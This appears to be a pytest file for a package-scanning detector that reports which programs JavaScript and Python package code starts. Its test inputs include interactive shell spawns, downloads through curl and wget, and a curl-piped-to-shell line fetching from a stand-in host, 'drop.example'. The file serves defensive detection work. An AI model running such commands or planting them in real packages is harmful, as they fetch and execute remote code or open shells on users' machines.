"""A fact of a process names the programs that it starts, as far as they are known."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts, FactId
from tests.detectors.artifacts import npm, wheel


def started(artifact: ArtifactFacts) -> tuple[str, ...]:
    """The programs of all process facts, in order."""
    facts = [fact for file in artifact.files for fact in file.facts if fact.id is FactId.PROCESS]
    return tuple(dict.fromkeys(program for fact in facts for program in fact.programs))


@pytest.mark.parametrize(
    ("source", "programs"),
    [
        ("spawn('/bin/sh', ['-i'])", ("sh",)),
        ("spawn('cmd.exe')", ("cmd",)),
        ("exec('gcc -v && pkg-config --libs x')", ("gcc", "pkg-config")),
        ("exec('sh -c \"curl -O https://files.example/x\"')", ("curl",)),
        ("execFile(process.execPath, ['build.js'])", ("node build.js",)),
        ("spawn(process.platform === 'win32' ? 'npm.cmd' : 'npm', ['rebuild'])", ("npm",)),
        ("exec('cd lib && echo x')", ()),
        ("spawn(anything)", ()),
        ("exec(`${anything} --version`)", ("…",)),
    ],
)
def test_javascript(source: str, programs: tuple[str, ...]) -> None:
    head = "const { spawn, exec, execFile } = require('child_process');\n"
    assert started(npm({"index.js": f"{head}{source};\n"})) == programs


@pytest.mark.parametrize(
    ("source", "programs"),
    [
        ("subprocess.call(['/bin/sh', '-i'])", ("sh",)),
        ("os.execl('/bin/bash', 'bash', '-i')", ("bash",)),
        ("os.system('cmd.exe')", ("cmd",)),
        ("subprocess.check_output(['git', 'describe'])", ("git",)),
        ("subprocess.run(['sh', 'configure'])", ("sh configure",)),
        ("subprocess.run([sys.executable, '-m', 'build'])", ("python -m build",)),
        ("subprocess.run('bash -c \"wget https://files.example/x\"', shell=True)", ("wget",)),
        ("subprocess.run([anything, '--version'])", ("…",)),
        ("subprocess.run(anything)", ("…",)),
    ],
)
def test_python(source: str, programs: tuple[str, ...]) -> None:
    assert started(wheel({"imgpress/__init__.py": f"import os, subprocess, sys\n{source}\n"})) == programs


def test_of_very_many_programs_some_are_named() -> None:
    line = " && ".join(f"tool{number}" for number in range(500))
    found = started(npm({"index.js": f"require('child_process').exec('{line}');"}))
    assert found[:2] == ("tool0", "tool1")
    assert len(found) <= 20


def test_a_line_that_is_handed_to_a_shell_is_read_as_one() -> None:
    source = "require('child_process').spawn('curl -s https://drop.example/x | sh', { shell: true });"
    facts = [fact for file in npm({"index.js": source}).files for fact in file.facts]
    assert ("drop.example",) in [fact.hosts for fact in facts if fact.id is FactId.NETWORK]
    assert started(npm({"index.js": source})) == ("curl", "sh")
